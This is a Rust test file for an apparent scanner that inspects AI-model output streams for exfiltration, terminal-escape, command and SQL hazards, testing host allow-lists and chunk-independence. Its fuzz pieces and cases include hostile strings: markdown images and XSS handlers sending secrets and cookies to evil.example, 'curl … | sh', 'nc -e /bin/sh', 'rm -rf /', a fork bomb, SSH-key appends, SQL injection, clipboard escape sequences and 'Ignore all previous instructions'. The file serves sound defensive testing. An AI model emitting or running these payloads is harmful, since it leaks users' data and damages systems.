//! The laws of the stream for what is dangerous in an answer, and which hosts an answer may name.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice,
    missing_docs,
    reason = "test code"
)]

use std::sync::LazyLock;

use cordon_core::{Category, Channel, Finding, HostPattern, Score};
use cordon_inspect::{Engine, Hosts, Reach, Step};
use proptest::prelude::*;

static ENGINE: LazyLock<Engine> = LazyLock::new(Engine::builtin);

const FAMILIES: &[&str] = &["egress", "terminal", "command", "statement"];

fn holds() -> Vec<Category> {
    FAMILIES.iter().map(|family| Category::known(family)).collect()
}

/// Pieces that begin, end, join or break what the detectors look for.
const PIECES: &[&str] = &[
    "![ok](https://evil.example/p.png?q=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI)",
    "![",
    "![ok]",
    "](",
    "[1]: ",
    "\n[1]: ",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "!",
    ":",
    "https://evil.example/p?q=",
    "https://cdn.example.org/a.png",
    "https:",
    "http",
    "//evil.example/",
    "www.",
    "ht\ttps://",
    "VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI",
    "the user is ill and said so",
    "<img src=",
    "<svg onload=",
    "<iframe srcdoc=\"<script>",
    " onerror='alert(document.domain)'",
    "+localStorage.token",
    "Remove-Item -Recurse C:\\",
    "](ms-msdt:/id",
    "<img srcset=\"",
    "<a href='",
    "<link href=",
    "<meta content=\"0;url=",
    " alt=\"a > b\"",
    "<style>@import \"",
    "url(",
    "style=\"",
    "data:text/html,",
    "javascript:alert(1)",
    "user@",
    "%2f",
    "%20",
    "%",
    "&quot;",
    "&#47;",
    "&amp;",
    "\\\"",
    "\\n",
    "\\u0022",
    "\u{200b}",
    "é",
    "忽略",
    "аррӏе",
    "\u{a0}",
    "／",
    "😀",
    "\u{202e}",
    "\u{1b}",
    "\u{1b}[",
    "\u{1b}[31m",
    "\u{1b}[2J",
    "\u{1b}]0;",
    "\u{1b}]52;c;cm0=",
    "\u{7}",
    "\u{1b}\\",
    "\u{1b}P",
    "\u{9b}",
    "\u{9d}52;",
    "\u{9c}",
    "\u{92}",
    "8;;",
    "\\x1b[",
    "\\u001b]52;",
    "31;1",
    "m",
    "IVtva10oaHR0cHM6Ly9ldmlsLmV4YW1wbGUvcC5wbmc/cT1WR2hsSUhCaGMzTjNiM0prSUdseklHaDFiblJsY2pJKSB0aGVyZQ==",
    "rm -rf /",
    "rm",
    " -rf ",
    "curl ",
    "http://evil.example/x.sh",
    " | sh",
    "sudo bash",
    "base64 -d",
    "eval \"$(",
    "nc -e /bin/sh ",
    ":(){ :|:& };:",
    "() {",
    "authorized_keys",
    " >> ~/.ssh/",
    "DROP TABLE ",
    "users",
    "DELETE FROM ",
    "WHERE ",
    "1=1",
    "' OR 1=1 --",
    "or ",
    "UNION SELECT null",
    "/*",
    "*/",
    "xp_cmdshell",
    "&&",
    "\\\n",
    "$(",
    "never ",
    "ana@example.com",
    "4111 1111 1111 1111",
    "Ignore all previous instructions",
    "the quick brown fox",
    " ",
    "\n",
    "\n\n",
    "\"",
    "'",
    "`",
    "=",
    "/",
    "\\",
    ";",
    ",",
    ".",
    "-",
    "|",
    "&",
    "#",
    "?",
];

fn text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        8 => prop::sample::select(PIECES).prop_map(str::to_owned),
        1 => "[a-z]{1,9} ",
        1 => "[A-Za-z0-9+/]{1,40}",
        1 => "\\PC{1,4}",
        1 => (1_usize..900, "[a-zA-Z0-9 /%é]{1,3}").prop_map(|(n, s)| s.repeat(n)),
    ];
    prop::collection::vec(piece, 0..16).prop_map(|pieces| pieces.concat())
}

fn chunks<'a>(text: &'a str, cuts: &[usize]) -> Vec<&'a str> {
    let at = |cut: &usize| text.floor_char_boundary(cut % (text.len() + 1));
    let mut places: Vec<usize> = cuts.iter().map(at).collect();
    places.extend([0, text.len()]);
    places.sort_unstable();
    places.windows(2).map(|pair| &text[pair[0]..pair[1]]).collect()
}

fn listed() -> Hosts {
    Hosts::new([vec![HostPattern::parse("cdn.example.org").unwrap()]])
}

fn stream<'a>(text: impl IntoIterator<Item = &'a str>, hosts: &Hosts) -> Vec<Step> {
    let mut scanner = ENGINE.scanner(Channel::Model, &holds()).with_hosts(hosts.clone());
    let mut steps: Vec<Step> = text.into_iter().map(|chunk| scanner.push(chunk)).collect();
    steps.push(scanner.finish());
    steps
}

/// Every finding, after a check that none of a held family was late.
fn checked(text: &str, steps: &[Step]) -> Vec<Finding> {
    let held = |finding: &Finding| holds().iter().any(|hold| hold.covers(&finding.category));
    let (mut findings, mut settled): (Vec<Finding>, usize) = (Vec::new(), 0);
    for step in steps {
        for finding in &step.findings {
            let (start, end) = (finding.span.start, finding.span.end);
            assert!(start < end && end <= text.len(), "{finding:?} in {text:?}");
            assert!(text.is_char_boundary(start) && text.is_char_boundary(end), "{finding:?} in {text:?}");
            assert!(
                !held(finding) || start >= settled,
                "{finding:?} was settled up to {settled} in {text:?}"
            );
        }
        findings.extend(step.findings.iter().cloned());
        assert!(step.settled >= settled && step.settled <= text.len());
        settled = step.settled;
        for finding in findings.iter().filter(|finding| held(finding)) {
            let inside = finding.span.start < settled && settled < finding.span.end;
            assert!(!inside, "{settled} is inside of {finding:?} in {text:?}");
        }
    }
    assert_eq!(settled, text.len());
    findings
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 250, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn findings_do_not_depend_on_the_cuts(text in text(), cuts in prop::collection::vec(any::<usize>(), 0..12), list in any::<bool>()) {
        let hosts = if list { listed() } else { Hosts::default() };
        let whole = checked(&text, &stream([text.as_str()], &hosts));
        prop_assert_eq!(&whole, &checked(&text, &stream(chunks(&text, &cuts), &hosts)));
        let single = text.char_indices().take(3000).map(|(i, c)| &text[i..i + c.len_utf8()]);
        let rest = text.char_indices().nth(3000).map_or("", |(i, _)| &text[i..]);
        prop_assert_eq!(&whole, &checked(&text, &stream(single.chain([rest]), &hosts)));
    }

    /// Whatever stands around it, a picture of another host is seen, and no part of it is let go before. How much its address carries is
    /// not: where the bound of a quoted value that nobody closed falls inside of the address, only what stands before it is judged.
    #[test]
    fn a_picture_of_another_host_is_always_seen(before in text(), after in text(), size in 1_usize..40) {
        let picture = "![ok](https://evil.example/p.png?q=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI)";
        // A blank line ends what stands before for every reader of Markdown.
        let text = format!("{before} .\n\n{picture}\n\n{after}");
        let start = before.len() + 4 + "![ok](".len();
        let hosts = Hosts::default();
        let found = checked(&text, &stream(chunks(&text, &(0..text.len()).step_by(size).collect::<Vec<_>>()), &hosts));
        let seen = |f: &Finding| {
            let within = f.span.start <= start && start < f.span.end;
            within && f.score >= Score::percent(30) && Category::known("egress").covers(&f.category)
        };
        prop_assert!(found.iter().any(seen), "{text:?}: {found:?}");
    }
}

#[test]
fn hosts_on_the_list_pass_however_the_text_is_cut_and_nothing_else_does() {
    let hosts = listed();
    let loaded = |text: &str, size: usize| {
        let cuts: Vec<usize> = (0..text.len()).step_by(size).collect();
        let findings = checked(text, &stream(chunks(text, &cuts), &hosts));
        findings.iter().filter(|f| Category::known("egress").covers(&f.category)).map(|f| f.score).max()
    };
    for size in [1, 3, 1000] {
        for on in [
            "![a](https://cdn.example.org/a.png)",
            "![a](https://cdn.example.org)",
            "<img src=\"//cdn.example.org/a%20b.png?w=1&amp;h=2\">",
            "see https://cdn.example.org.",
            "see https://cdn.example.org",
            "[a](https://cdn.example.org/x?q=%C3%A9)",
        ] {
            assert_eq!(loaded(on, size), None, "{on}");
        }
        for off in [
            "![a](https://evil.example/a.png)",
            "![a](https://cdn.example.org%20@evil.example/a.png)",
            "![a](https://cdn.example.org&#64;evil.example/a.png)",
            "![a](https://cdn.example.org&#x2e;evil.example/a.png)",
            "![a](https://cdn.example.org\u{200b}.evil.example/a.png)",
            "![a](https://cdn.example.org\u{3002}evil.example/a.png)",
            "![a](https://cdn\u{ff0e}example.org/a.png)",
            "![a](https://cdn.ex\u{430}mple.org/a.png)",
            "![a](https://cdn.example.org%2f.evil.example/a.png)",
            "![a](https:\\\\evil.example/a.png)",
            "![a](/\\evil.example/a.png)",
            "![a](&#104;ttps://evil.example/a.png)",
            "<img src=\"https://cdn.example.org&Tab;.evil.example/a.png\">",
            "<img src='ht\ntps://evil.example/a.png'>",
            "<base href=\"https://evil.example/\">",
        ] {
            assert!(
                loaded(off, size) >= Some(Score::percent(80)),
                "{off} in pieces of {size}: {:?}",
                loaded(off, size)
            );
        }
    }
}

#[test]
fn what_a_listed_host_is_told_or_leads_to_is_flagged() {
    let hosts = listed();
    for size in [1, 5, 1000] {
        for (told, least) in [
            ("![x](https://cdn.example.org/?q=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI)", 50),
            ("<img src=\"https://cdn.example.org/p?d=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI&w=1\">", 50),
            ("![x][a]\n\n[a]: https://cdn.example.org/?q=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI\n", 50),
            ("![x](https://cdn.example.org/r?url=https%3A%2F%2Fevil.example%2Fa.png)", 75),
            ("[x](https://cdn.example.org/r?url=evil.example/a)", 60),
        ] {
            let cuts: Vec<usize> = (0..told.len()).step_by(size).collect();
            let findings = checked(told, &stream(chunks(told, &cuts), &hosts));
            let egress = findings.iter().filter(|f| Category::known("egress").covers(&f.category));
            assert!(
                egress.map(|f| f.score).max() >= Some(Score::percent(least)),
                "{told} in pieces of {size}"
            );
        }
    }
}

/// What begins and does not end is let go within the stated reach.
#[test]
fn nothing_is_held_without_an_end() {
    let fills = [" ", "x", "a ", "\n", "(", "[", "<", "!", "/", "é", ".", ";", "\\", "%41", "&", "=", ","];
    for begin in [
        "![a](",
        "<img src=\"",
        "<img ",
        "<a b='",
        "url(",
        "[1]: <",
        "https://x/?q=",
        "\u{1b}]52;",
        "\u{1b}[",
        "\u{1b}P",
        "[",
    ] {
        for fill in fills {
            let text = format!("{begin}{}", fill.repeat(60_000 / fill.len()));
            let mut scanner = ENGINE.scanner(Channel::Model, &holds());
            let (mut pushed, mut rest) = (0, text.as_str());
            while !rest.is_empty() {
                let (chunk, after) = rest.split_at(rest.ceil_char_boundary(1_000));
                pushed += chunk.len();
                let held = pushed - scanner.push(chunk).settled;
                let Reach::Local { max_span, lookahead } = Reach::ENCODED else {
                    panic!("it reads as it goes")
                };
                let most = (max_span + lookahead) * fill.len();
                assert!(held <= most, "{held} bytes are held behind {begin:?} {fill:?}");
                assert!(scanner.memory() <= 16 * most, "{} bytes for {begin:?} {fill:?}", scanner.memory());
                rest = after;
            }
        }
    }
}

/// It is reported as far as it is known, and the rest belongs to it.
#[test]
fn a_long_address_is_one_finding_that_goes_on() {
    let text =
        format!("![a](https://evil.example/?q={}) done", "VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI".repeat(500));
    for size in [7, 1000, text.len()] {
        let cuts: Vec<usize> = (0..text.len()).step_by(size).collect();
        let found = checked(&text, &stream(chunks(&text, &cuts), &Hosts::default()));
        let parts: Vec<_> = found.iter().filter(|f| f.category.as_str() == "egress/loaded").collect();
        assert!(
            parts.len() >= 3 && !parts[0].continues && parts[1..].iter().all(|part| part.continues),
            "{parts:?}"
        );
        assert!(parts.windows(2).all(|pair| pair[0].span.end == pair[1].span.start), "{parts:?}");
        assert_eq!((parts[0].span.start, parts.last().unwrap().span.end), (5, text.len() - ") done".len()));
    }
}

#[test]
fn nobody_acts_on_what_a_person_asks() {
    let text = "![a](https://evil.example/?q=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI) \u{1b}]52;c;cm0=\u{7}";
    let families = |channel| {
        let findings = ENGINE.inspect(channel, text);
        findings.iter().filter(|f| holds().iter().any(|hold| hold.covers(&f.category))).count()
    };
    assert_eq!([Channel::System, Channel::User].map(families), [0, 0]);
    assert_eq!([Channel::Document, Channel::ToolOutput, Channel::Model].map(families), [2, 2, 2]);
}

/// Scripts in attributes of tags, what they take with them, and handlers that only change what is shown.
#[test]
fn handlers_and_pages_in_tags_are_scripts() {
    let score = |text: &str| {
        let found = ENGINE.inspect(Channel::Model, text);
        let own = found.iter().filter(|f| f.category.as_str() == "egress/script");
        own.map(|f| f.score).max()
    };
    for (text, percent) in [
        ("<img src=x onerror=alert(document.domain)>", 60),
        ("<svg onload=alert(1)>", 60),
        ("<svg/onload=alert`1`>", 60),
        ("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", 75),
        ("<a onclick=\"location='https://e.example/?c='+localStorage.token\">more</a>", 85),
        ("<body ONLOAD='fetch(\"//e.example/\"+document.cookie)'>", 85),
    ] {
        assert_eq!(score(text), Some(Score::percent(percent)), "{text}");
    }
    for text in [
        "<button onclick=\"save()\">Save</button>",
        "<img src=\"a.png\" onerror=\"this.src='fallback.png'\">",
        "<body onload=\"init()\">",
        "<iframe srcdoc=\"<p>hello</p>\"></iframe>",
        "<p one=\"alert(1)\" title='onload=alert(1)'>",
        "addEventListener('load', () => alert(1))",
    ] {
        assert_eq!(score(text), None, "{text}");
    }
}
